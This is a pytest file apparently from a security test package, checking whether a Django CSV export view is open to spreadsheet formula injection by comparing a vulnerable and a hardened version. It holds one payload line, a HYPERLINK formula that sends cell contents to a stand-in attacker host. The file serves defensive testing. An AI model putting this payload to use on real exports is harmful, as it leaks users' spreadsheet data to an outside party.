import csv
import io

from django.conf import settings

if not settings.configured:
    settings.configure()

from django.test import RequestFactory  # noqa: E402

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


def formulas(text):
    """Cells that a spreadsheet takes for formulas."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in tuple("=+-@\t\r")]


def export(module, term):
    return module.export(RequestFactory().get("/export", {"q": term})).content.decode()


def attack(module, tmp_path) -> bool:
    return bool(formulas(export(module, FORMULA)))


def test_honest_input(program, tmp_path):
    rows = list(csv.reader(io.StringIO(export(program, "bolt"))))
    assert rows == [["search", "bolt"], ["hits", "2"], ["bolt m6", "120"], ["bolt m8", "80"]]


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path):
    assert attack(vulnerable, tmp_path)


def test_attack_fails_on_hardened(hardened, tmp_path):
    assert not attack(hardened, tmp_path)
